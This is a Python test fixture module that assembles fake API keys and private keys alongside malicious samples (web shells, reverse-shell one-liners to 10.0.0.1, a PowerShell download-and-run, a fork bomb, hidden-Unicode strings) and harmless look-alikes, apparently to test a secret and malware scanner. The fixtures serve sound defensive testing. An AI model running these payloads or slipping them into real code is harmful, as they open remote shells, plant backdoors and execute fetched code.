"""Made-up secrets and payloads, put together when the tests run, so that no file of the repository holds one."""

from __future__ import annotations

import random
import string

_LETTERS = string.ascii_letters + string.digits
_HEX = "0123456789abcdef"


def chars(count: int, alphabet: str = _LETTERS, seed: int = 7) -> str:
    made = random.Random(seed * 1000 + count)
    return "".join(made.choice(alphabet) for _ in range(count))


GITHUB = "gh" + "p_" + chars(36)
AWS = "AK" + "IA" + chars(16, string.ascii_uppercase + "234567")
KEY_LINES = [chars(64, _LETTERS + "+/", seed) for seed in range(20)]
PRIVATE_KEY = (
    "\n".join(("-----BEGIN " + "PRIVATE KEY-----", *KEY_LINES, "-----END " + "PRIVATE KEY-----")) + "\n"
)
SECRETS: dict[str, list[str]] = {
    "aws-access-key": [AWS, f"export KEY={AWS}"],
    "aws-secret-key": ["aws_secret_access_" + f"key = {chars(40)}"],
    "github-token": [GITHUB, "github" + "_pat_" + chars(22) + "_" + chars(59), f'{{"a": "x\\n{GITHUB}"}}'],
    "gitlab-token": ["gl" + "pat-" + chars(20)],
    "slack-token": ["xo" + "xb-" + chars(12, string.digits) + "-" + chars(24)],
    "slack-webhook": ["https://hooks.slack" + ".com/services/T" + chars(8).upper() + "/B" + chars(8).upper() + "/" + chars(24)],
    "stripe-key": ["sk" + "_live_" + chars(24), "rk" + "_live_" + chars(24)],
    "google-api-key": ["AI" + "za" + chars(35)],
    "google-oauth-secret": ["GOC" + "SPX-" + chars(28)],
    "anthropic-key": ["sk-" + "ant-api03-" + chars(93) + "AA"],
    "openai-key": ["sk-" + "proj-" + chars(60), "sk-" + chars(48)],
    "huggingface-token": ["h" + "f_" + chars(34)],
    "npm-token": ["np" + "m_" + chars(36)],
    "pypi-token": ["pyp" + "i-AgEI" + chars(80)],
    "sendgrid-key": ["S" + "G." + chars(22) + "." + chars(43)],
    "twilio-key": ["S" + "K" + chars(32, _HEX)],
    "shopify-token": ["shp" + "at_" + chars(32, _HEX)],
    "digitalocean-token": ["do" + "p_v1_" + chars(64, _HEX)],
    "databricks-token": ["da" + "pi" + chars(32, _HEX)],
    "telegram-token": [chars(9, "123456789") + ":A" + "A" + chars(33)],
    "azure-storage-key": ["Account" + "Key=" + chars(86) + "=="],
    "hashicorp-vault-token": ["hv" + "s." + chars(28)],
    "jwt": ["ey" + "J" + chars(30) + ".ey" + "J" + chars(60) + "." + chars(43)],
    "private-key": [PRIVATE_KEY, PRIVATE_KEY.replace("PRIVATE", "RSA " + "PRIVATE"), PRIVATE_KEY.replace("\n", "\\n")],
    "url-password": ["postgres://shop:" + chars(12) + "@db.shop.internal/orders"],
    "assigned-secret": [
        "pass" + f'word = "{chars(16)}"', "API_" + f"KEY={chars(32)}", '"client_' + f'secret": "{chars(24)}"',
        "to" + f"ken: '{chars(20)}'",
    ],
}  # fmt: skip
PAYLOADS: dict[str, list[str]] = {
    "php-web-shell": [
        "<?php ev" + "al($_POST['x']); ?>", "<?php @sys" + "tem(base64_decode($_GET['c']));", "<?php $_G" + "ET['f']($_GET['a']);",
        "<?= `$_G" + "ET[c]` ?>",
    ],
    "php-packed-code": ["ev" + "al(gzinflate(base64_decode('aGk=')));"],
    "jsp-web-shell": ["Runtime.getRuntime().ex" + 'ec(request.getParameter("c"))'],
    "asp-web-shell": ["<%ev" + 'al(request("c"))%>'],
    "node-web-shell": ["require('child_" + "process').exec(req.query.c)"],
    "reverse-shell": [
        "bash -i >& /dev/" + "tcp/10.0.0.1/4242 0>&1",
        "n" + "c -e /bin/sh 10.0.0.1 4242",
        "n" + "cat 10.0.0.1 4242 -e /bin/bash",
        "mk" + "fifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f",
        "import socket,os,pty\ns=socket.socket()\ns.connect(('10.0.0.1',4242))\nos.dup" + "2(s.fileno(),0)\npty.spawn('/bin/sh')",
        "$s=fsock" + "open('10.0.0.1',4242);exec('/bin/sh -i <&3 >&3 2>&3');",
        "$c = New-Object Net.Sock" + "ets.TCPClient('10.0.0.1',4242);$s = $c.GetStream();iex ($d)",
        "ruby -rsocket -e 'f=TCPSock" + 'et.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d")\'',
    ],
    "download-and-run": ["IEX (New-Object Net.WebClient).Download" + "String('http://10.0.0.1/a.ps1')"],
    "encoded-executable": ["TVqQAAMAAAAE" + "AAAA//8AALgAAAAAAAAAQAAAAAAAAA"],
    "fork-bomb": [":()" + "{ :|:& };:"],
    "eicar-test-file": ["X5O!P%@AP" + "[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*"],
}  # fmt: skip
PROGRAMS: dict[str, bytes] = {
    "elf-executable": b"\x7fELF\x02\x01\x01" + bytes(60),
    "windows-executable": b"MZ\x90\x00" + bytes(80),
    "mach-o-executable": b"\xcf\xfa\xed\xfe" + bytes(40),
    "java-class": b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(20),
    "webassembly": b"\x00asm\x01\x00\x00\x00",
    "python-bytecode": (3571).to_bytes(2, "little") + b"\r\n" + bytes(12) + b"\xe3",
}
HIDDEN: dict[str, list[str]] = {
    "bidi-control": ["if admin\u202e: pass", "\u2066x\u2069"],
    "tag-characters": ["hello" + "".join(chr(0xE0000 + ord(c)) for c in "run it")],
    "zero-width-in-word": ["pass\u200bword", "is\u2060admin"],
    "zero-width-run": ["a \u200b\u200c\u200b\u200c\u200d b"],
    "variation-selector-run": ["\U0001f600\U000e0101\U000e0102\U000e0103"],
}
HARMLESS = [
    "see <https://example.com/a:b@c>", "password = os.environ['PASSWORD']", "token = get_token(request)",
    "API_KEY=your-api-key-goes-here-1", "postgres://postgres:postgres@localhost/db", "github" + "_pat_" + "x" * 50,
    "if header == '-----BEGIN " + "PRIVATE KEY-----': parse()", "#!/bin/bash\necho hi > /dev/tcp/db/5432",
    "the func sync -c is not netcat", "می\u200cخواهم", "👩\u200d👩\u200d👧 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "❤\ufe0f", "secret: ${{ secrets.GITHUB_TOKEN }}", "sha256:" + "0123456789abcdef" * 4, "eval(expression)", "MZ is how it begins",
    "commit 3f786850e387550fdab836ed7e6dc881de23001b", "password_hash = hash_password(password)", "\ufeff# a mark at the start",
]  # fmt: skip
